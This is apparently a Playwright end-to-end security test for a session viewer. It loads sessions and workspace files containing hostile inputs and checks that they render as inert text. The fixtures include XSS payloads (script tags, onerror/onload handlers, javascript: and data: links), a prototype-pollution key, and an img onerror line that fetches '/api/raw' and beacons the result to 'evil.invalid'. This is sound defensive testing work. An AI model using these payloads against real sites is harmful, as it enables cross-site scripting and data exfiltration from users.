/**
 * Hostile input: the security corpus's session file (malformed lines, prototype keys,
 * script and markup in strings) and a WINK-shaped session carrying the same payloads in
 * slice items and workspace files. No dialog, no request to another host, text shown as text.
 */
import { copyFile, mkdtemp, rm, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { securityFixture } from "../fixtures/paths.js";
import { InMemoryFilesystem } from "../shared/filesystem/memory/index.js";
import { Session, sessionTreeLines } from "../shared/session/session-model.js";
import { FILESYSTEM_SNAPSHOT_REF_TYPE } from "../shared/session/workspace-items.js";
import { startServer } from "./support/server.js";
import type { RunningServer } from "./support/server.js";
import { expect, test } from "./support/test.js";

const SCRIPT = "</script><script>alert(document.domain)</script>";
const IMG = `# Title\n\n<img src=x onerror="fetch('/api/raw').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.invalid',t))">`;
const LINKS = "Links: [click](javascript:alert(1)) [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n\n![remote](https://evil.invalid/pixel.png) and [ok](https://example.invalid/)";

let dir: string;
let server: RunningServer;

test.beforeAll(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), "wink-e2e-hostile-"));
  await copyFile(securityFixture("hostile-session.jsonl"), path.join(dir, "hostile-session.jsonl"));
  const session = new Session({ sessionId: "hostile-0000-4000-8000-000000000666", tags: { app: "<b>bold</b>", "x-\"quote\"": "'><svg onload=alert(1)>" } });
  session.append("__main__:Message", { content: SCRIPT, note: "\u202eevil \u001b[2J", __proto__x: { polluted: true } });
  session.append("__main__:Message", { content: IMG });
  session.append("__main__:Message", { content: LINKS });
  const fs = new InMemoryFilesystem();
  await fs.write("page.html", `<html><body>${SCRIPT}<img src=x onerror=alert(2)></body></html>\n`, { createParents: true });
  await fs.write("img/evil.svg", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(3)"><script>alert(4)</script><rect width="10" height="10"/></svg>`, { createParents: true });
  const summary = await fs.exportArchive(path.join(dir, "hostile.fs.zip"));
  session.replace(FILESYSTEM_SNAPSHOT_REF_TYPE, [{ archive_path: "hostile.fs.zip", file_count: summary.fileCount, total_bytes: summary.totalBytes }]);
  await writeFile(path.join(dir, `${session.sessionId}.jsonl`), `${sessionTreeLines(session).join("\n")}\n`);
  server = await startServer(dir);
});
test.afterAll(async () => {
  await server.stop();
  await rm(dir, { recursive: true, force: true });
});

test("the corpus file: bad lines are reported as text, nothing runs", async ({ page, guarded }) => {
  await page.goto(`${server.url}?view=run`);
  await page.locator("[data-testid=run-row]", { hasText: "hostile-session.jsonl" }).click();
  const group = page.getByTestId("line-errors");
  await group.getByText(/lines? did not load/).click();
  await expect(group.locator(".line-error-list li").first()).toBeVisible();
  await expect(group.locator(".line-error-list")).toContainText("line 6");
  expect(await page.evaluate(() => ({}) as Record<string, unknown>)).toEqual({});
  expect(await page.evaluate(() => (Object.prototype as Record<string, unknown>).polluted)).toBeUndefined();
  await guarded.shot("hostile-errors");
});

test("payloads in slice items and workspace files are shown as text", async ({ page, guarded }) => {
  await page.goto(`${server.url}?file=hostile-0000-4000-8000-000000000666.jsonl&line=1&view=slices&slice=__main__%3AMessage`);
  const cards = page.getByTestId("item-card");
  await expect(cards).toHaveCount(3);
  await expect(cards.nth(0)).toContainText(SCRIPT);
  // A right-to-left override in data is shown, not obeyed.
  await expect(cards.nth(0)).toContainText("⟨U+202E⟩evil ␛[2J");
  // Tags are shown (as text) without a click.
  await expect(page.getByTestId("snapshot-tag").filter({ hasText: "<b>bold</b>" })).toBeVisible();
  // Markdown: rendered without the image, handlers or unsafe links.
  const rendered = cards.nth(1).locator(".markdown-body");
  await expect(rendered.locator("h1")).toHaveText("Title");
  await expect(rendered.locator("img")).toHaveCount(0);
  // Unsafe targets are not links at all; the safe one opens in a new tab without referrer.
  await expect(cards.nth(2).locator(".markdown-body")).toContainText("click");
  await expect(cards.nth(2).locator('.markdown-body a[href^="javascript"], .markdown-body a[href^="data"]')).toHaveCount(0);
  await expect(cards.nth(2).locator('.markdown-body a[href="https://example.invalid/"]')).toHaveAttribute("rel", "noopener noreferrer nofollow");
  await expect(cards.nth(2).locator(".md-image")).toContainText("evil.invalid/pixel.png");
  expect(await page.locator("[onerror], [onload]").count()).toBe(0);
  await guarded.shot("hostile-items");

  // Workspace files: HTML as text in the editor, SVG only through <img>.
  await page.keyboard.press("4");
  await page.locator('[data-testid=tree-row][data-path="page.html"]').click();
  await expect(page.getByTestId("code-view")).toContainText("<script>alert(document.domain)</script>");
  await page.locator('[data-testid=tree-row][data-path="img/evil.svg"]').click();
  await expect(page.locator(".image-preview img")).toHaveAttribute("src", /^data:image\/svg\+xml;base64,/);
  expect(await page.locator("svg[onload]").count()).toBe(0);
});
